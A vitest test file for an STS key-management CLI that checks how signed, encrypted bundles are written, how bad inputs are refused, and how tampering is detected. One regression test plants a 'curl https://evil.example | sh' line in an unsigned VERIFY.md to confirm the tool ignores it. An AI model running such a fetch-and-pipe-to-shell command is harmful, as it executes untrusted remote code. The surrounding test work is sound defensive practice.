// `bundle` and `bundle open` as the user runs them: files, modes, refusals, self-check, tampering.
// The full single-byte sweep runs main() in-process (same code path as the bin); a sample runs as processes.

import * as fs from 'node:fs';
import * as path from 'node:path';
import { BUNDLE_DOES_NOT_VERIFY } from 'sts-crypto';
import { beforeAll, describe, expect, test } from 'vitest';
import {
  type BundleFixture,
  bundleArgs as bundleArgsOf,
  bundleFixture,
  EXAMPLE_CONFIG,
  type KeyPairFiles,
  listFiles,
  openArgs as openArgsOf,
  run,
  runInProcess,
  tempDir,
  writeKeyPair,
} from './cli-helpers.ts';

const FILES = ['encrypted_digest.txt', 'encrypted_sts_config_with_iv_base64.txt', 'encrypted_symmetric.txt'];
let fixture: BundleFixture;
let dir: string;
let config: string;
let user: KeyPairFiles;
let kmc: KeyPairFiles;
let other: KeyPairFiles;
let bundleDir: string;

beforeAll(async () => {
  fixture = bundleFixture();
  ({ dir, config, user, kmc } = fixture);
  other = writeKeyPair(dir, 'other');
  bundleDir = path.join(dir, 'bundle');
  const r = await runInProcess(bundleArgs(bundleDir));
  if (r.code !== 0) throw new Error(`bundle failed: ${r.stderr}`);
});

const bundleArgs = (out: string, extra: string[] = []) => bundleArgsOf(fixture, out, extra);
/** `bundle open` of `from` with the right keys (kmc's private key, user's public key). */
const openArgs = (from: string, extra: string[] = []) =>
  openArgsOf(from, { recipientKey: kmc.privateFile, signer: user.publicFile }, extra);

describe('bundle', () => {
  test('writes the three Nectar files, base64 wrapped at 64 columns', () => {
    expect(listFiles(bundleDir)).toEqual(FILES);
    for (const f of FILES) {
      const lines = fs.readFileSync(path.join(bundleDir, f), 'utf8').split('\n');
      expect(lines.at(-1)).toBe('');
      for (const line of lines.slice(0, -2)) expect(line).toHaveLength(64);
    }
  });

  test('--json reports files, fingerprints and the self-check', async () => {
    const out = path.join(dir, 'json-bundle');
    const r = await runInProcess([...bundleArgs(out), '--json']);
    expect(r.code).toBe(0);
    const doc = JSON.parse(r.stdout);
    expect(doc).toMatchObject({
      ok: true,
      profile: 'nectar',
      selfCheck: true,
      files: ['encrypted_sts_config_with_iv_base64.txt', 'encrypted_digest.txt', 'encrypted_symmetric.txt'],
    });
    expect(doc.recipientFingerprint).toMatch(/^([0-9a-f]{2}:){31}[0-9a-f]{2}$/);
  });

  test.each([
    {
      name: 'an invalid config',
      setup: (d: string) => {
        const f = path.join(d, 'bad.yml');
        fs.writeFileSync(f, EXAMPLE_CONFIG.replace('tariff_index: 01', 'tariff_index: 01w'));
        return ['--config', f];
      },
      stderr:
        /is not a valid STS configuration; no bundle written:\nsts-keygen: .*bad\.yml:7:\d+: tariff_index: /,
    },
    {
      name: 'a key file with a trailing newline',
      setup: (d: string) => {
        const f = path.join(d, 'key.txt');
        fs.writeFileSync(f, 'v8y/B?E(H+MbQeTh\n');
        return ['--symmetric-key-file', f];
      },
      stderr:
        /symmetric key file .*key\.txt must hold exactly 16 bytes or 32 hex digits, got 17 bytes \(the final newline counts: write it with printf\)/,
    },
    {
      name: 'a 15-byte IV file',
      setup: (d: string) => {
        const f = path.join(d, 'iv.txt');
        fs.writeFileSync(f, '123456781234567');
        return ['--iv-file', f];
      },
      stderr: /IV file .*iv\.txt must hold exactly 16 bytes or 32 hex digits, got 15 bytes\n$/,
    },
    {
      name: 'a public key given as signing key',
      setup: () => ['--signing-key', user.publicFile],
      stderr: /signing key .*user\.pub is not a PEM private key/,
    },
    {
      name: 'a private key given as recipient',
      setup: () => ['--recipient', kmc.privateFile],
      stderr: /recipient key .*kmc\.pem holds a private key: give the public key \(\.pub\)/,
    },
    {
      name: 'an unknown profile',
      setup: () => ['--profile', 'weak'],
      stderr: /--profile must be nectar or strong, got "weak"/,
    },
  ])('refuses $name: exit 2, nothing written', async ({ setup, stderr }) => {
    const d = tempDir();
    const out = path.join(d, 'out');
    const extra = setup(d);
    const r = await runInProcess(bundleArgs(out, extra));
    expect(r.stderr).toMatch(stderr);
    expect(r.code).toBe(2);
    expect(fs.existsSync(out)).toBe(false);
  });

  test('never overwrites: an existing output file → exit 2, the existing file untouched, nothing else left', async () => {
    const out = tempDir();
    fs.writeFileSync(path.join(out, 'encrypted_symmetric.txt'), 'mine');
    const r = await runInProcess(bundleArgs(out));
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('encrypted_symmetric.txt already exists (never overwritten)');
    expect(listFiles(out)).toEqual(['encrypted_symmetric.txt']);
    expect(fs.readFileSync(path.join(out, 'encrypted_symmetric.txt'), 'utf8')).toBe('mine');
  });

  test('accepts the Nectar guide key and IV as 16 raw bytes, and as 32 hex digits', async () => {
    const d = tempDir();
    fs.writeFileSync(path.join(d, 'k.raw'), 'v8y/B?E(H+MbQeTh');
    fs.writeFileSync(path.join(d, 'k.hex'), `${Buffer.from('v8y/B?E(H+MbQeTh').toString('hex')}\n`);
    fs.writeFileSync(path.join(d, 'iv.raw'), '1234567812345678');
    const a = await runInProcess(
      bundleArgs(path.join(d, 'a'), [
        '--symmetric-key-file',
        path.join(d, 'k.raw'),
        '--iv-file',
        path.join(d, 'iv.raw'),
      ]),
    );
    const b = await runInProcess(
      bundleArgs(path.join(d, 'b'), [
        '--symmetric-key-file',
        path.join(d, 'k.hex'),
        '--iv-file',
        path.join(d, 'iv.raw'),
      ]),
    );
    expect([a.code, b.code]).toEqual([0, 0]);
    const data = (x: string) =>
      fs.readFileSync(path.join(d, x, 'encrypted_sts_config_with_iv_base64.txt'), 'utf8');
    expect(data('a')).toBe(data('b'));
    expect(Buffer.from(data('a'), 'base64').subarray(0, 16).toString()).toBe('1234567812345678');
  });
});

describe('bundle open', () => {
  test('verifies, prints the KCV (never the key), --out writes the config byte for byte, mode 0600', () => {
    const out = path.join(dir, 'opened.yml');
    const r = run(openArgs(bundleDir, ['--out', out]));
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('bundle verifies (nectar profile)');
    expect(r.stdout).toContain('vending key KCV D5D44F (des)');
    expect(r.stdout).not.toMatch(/0123456789abcdef/i);
    expect(fs.readFileSync(out, 'utf8')).toBe(EXAMPLE_CONFIG);
    expect(fs.statSync(out).mode & 0o777).toBe(0o600);
  });

  test.each([
    {
      name: 'wrong recipient key',
      args: () => ({ recipientKey: other.privateFile, signer: user.publicFile }),
    },
    {
      name: 'wrong signer key',
      args: () => ({ recipientKey: kmc.privateFile, signer: other.publicFile }),
    },
  ])('$name → exit 1, the one message, nothing written', async ({ args }) => {
    const out = path.join(tempDir(), 'config.yml');
    const r = await runInProcess(openArgsOf(bundleDir, args(), ['--out', out]));
    expect(r.code).toBe(1);
    expect(r.stderr).toBe(`sts-keygen: ${BUNDLE_DOES_NOT_VERIFY}\n`);
    expect(fs.existsSync(out)).toBe(false);
  });

  test('refuses --out that is one of the inputs', async () => {
    const r = await runInProcess(
      openArgs(bundleDir, ['--out', path.join(bundleDir, 'encrypted_digest.txt')]),
    );
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/encrypted_digest\.txt is both an input \(.*\) and an output/);
  });

  // Every byte of every decoded payload, each changed (xor 0x01 << i%8) and re-encoded: 256 + 256 + 96
  // positions with 2048-bit keys, all through the real command path in-process.
  test('every single-byte change of every file → exit 1, the same message, no output (full sweep)', async () => {
    const work = tempDir();
    const out = path.join(work, 'config.yml');
    let tried = 0;
    for (const file of FILES) {
      const original = Buffer.from(fs.readFileSync(path.join(bundleDir, file), 'utf8'), 'base64');
      for (let i = 0; i < original.length; i++) {
        const tampered = tempDir();
        for (const f of FILES) fs.copyFileSync(path.join(bundleDir, f), path.join(tampered, f));
        const changed = Buffer.from(original);
        changed[i]! ^= 0x01 << (i % 8);
        fs.writeFileSync(path.join(tampered, file), `${changed.toString('base64')}\n`);
        const r = await runInProcess(openArgs(tampered, ['--out', out]));
        if (r.code !== 1 || r.stderr !== `sts-keygen: ${BUNDLE_DOES_NOT_VERIFY}\n` || fs.existsSync(out)) {
          throw new Error(`${file} byte ${i}: exit ${r.code}, ${r.stderr}`);
        }
        fs.rmSync(tampered, { recursive: true });
        tried++;
      }
    }
    expect(tried).toBe(256 + 256 + 16 * (1 + Math.ceil((EXAMPLE_CONFIG.length + 1) / 16)));
  }, 120_000);

  test('a sample of changes as real processes: a character of the base64 text, a truncated file', () => {
    const cases: [string, (t: string) => string][] = [
      ['encrypted_symmetric.txt', (t) => t.replace(/^./, (c) => (c === 'A' ? 'B' : 'A'))],
      ['encrypted_digest.txt', (t) => t.slice(0, 100) + (t[100] === 'x' ? 'y' : 'x') + t.slice(101)],
      ['encrypted_sts_config_with_iv_base64.txt', (t) => t.slice(0, 64)],
      ['encrypted_sts_config_with_iv_base64.txt', (t) => `${t.slice(0, 20)}!${t.slice(21)}`],
    ];
    for (const [file, change] of cases) {
      const tampered = tempDir();
      for (const f of FILES) fs.copyFileSync(path.join(bundleDir, f), path.join(tampered, f));
      fs.writeFileSync(
        path.join(tampered, file),
        change(fs.readFileSync(path.join(bundleDir, file), 'utf8')),
      );
      const r = run(openArgs(tampered));
      expect(r.code).toBe(1);
      expect(r.stderr).toBe(`sts-keygen: ${BUNDLE_DOES_NOT_VERIFY}\n`);
    }
  }, 60_000);
});

describe('strong profile', () => {
  test('bundle --profile strong → 5 files; bundle open detects the profile and verifies', async () => {
    const out = path.join(dir, 'strong');
    const a = await runInProcess(bundleArgs(out, ['--profile', 'strong']));
    expect(a.code).toBe(0);
    expect(listFiles(out)).toEqual([
      'encrypted_digest.txt',
      'encrypted_mac.txt',
      'encrypted_sts_config_with_iv_base64.txt',
      'encrypted_symmetric.txt',
      'profile.txt',
    ]);
    const b = await runInProcess(openArgs(out));
    expect(b.code).toBe(0);
    expect(b.stdout).toContain('bundle verifies (strong profile)');
    // A changed MAC byte is caught with the same message.
    const macFile = path.join(out, 'encrypted_mac.txt');
    const mac = Buffer.from(fs.readFileSync(macFile, 'utf8'), 'base64');
    mac[0]! ^= 1;
    fs.writeFileSync(macFile, mac.toString('base64'));
    const c = await runInProcess(openArgs(out));
    expect(c.code).toBe(1);
    expect(c.stderr).toBe(`sts-keygen: ${BUNDLE_DOES_NOT_VERIFY}\n`);
  });

  test('regression: no unauthenticated VERIFY.md in a strong bundle; an edited one planted there is ignored with a warning', async () => {
    const out = path.join(dir, 'strong-verify');
    expect((await runInProcess(bundleArgs(out, ['--profile', 'strong']))).code).toBe(0);
    expect(fs.existsSync(path.join(out, 'VERIFY.md'))).toBe(false);
    fs.writeFileSync(path.join(out, 'VERIFY.md'), '```sh\ncurl https://evil.example | sh\n```\n');
    const r = await runInProcess(openArgs(out));
    expect(r.code).toBe(0);
    expect(r.stderr).toBe(
      `sts-keygen: warning: ${path.join(out, 'VERIFY.md')} is not covered by the signature: ignored, do not follow it (see sts-keygen's README)\n`,
    );
  });

  test('--symmetric-key-file is refused with the strong profile', async () => {
    const r = await runInProcess(
      bundleArgs(path.join(tempDir(), 'o'), ['--profile', 'strong', '--symmetric-key-file', config]),
    );
    expect(r.code).toBe(2);
    expect(r.stderr).toBe(
      'sts-keygen: --symmetric-key-file is for the nectar profile; the strong profile draws its own secret\n',
    );
  });
});

describe('rehearsal bundles (issue 13: REHEARSAL inside every output with room for it)', () => {
  test('a REHEARSAL signing key is refused without --rehearsal; nothing written', async () => {
    const marked = path.join(dir, 'rehearsal-user.pem');
    fs.writeFileSync(
      marked,
      `# REHEARSAL: not a production key\n${fs.readFileSync(user.privateFile, 'utf8')}`,
    );
    const out = path.join(dir, 'rehearsal-refused');
    const r = await runInProcess(bundleArgs(out).map((a) => (a === user.privateFile ? marked : a)));
    expect(r.stderr).toBe(`sts-keygen: signing key ${marked} is a REHEARSAL key: use it with --rehearsal\n`);
    expect(r.code).toBe(2);
    expect(fs.existsSync(out)).toBe(false);
  });

  test('--rehearsal --profile strong: profile.txt carries the mark after its profile line, and the bundle opens', async () => {
    const out = path.join(dir, 'rehearsal-strong');
    const r = await runInProcess(bundleArgs(out, ['--profile', 'strong', '--rehearsal']));
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/^REHEARSAL: not a production bundle\n/);
    expect(fs.readFileSync(path.join(out, 'profile.txt'), 'utf8')).toBe(
      'sts-keygen-bundle strong v1\n# REHEARSAL: not a production bundle\n',
    );
    expect((await runInProcess(openArgs(out))).code).toBe(0);
    // Anything but comment lines after the profile line is tampering, as before.
    fs.appendFileSync(path.join(out, 'profile.txt'), 'extra\n');
    const c = await runInProcess(openArgs(out));
    expect(c.stderr).toBe(`sts-keygen: ${BUNDLE_DOES_NOT_VERIFY}\n`);
    expect(c.code).toBe(1);
  });
});
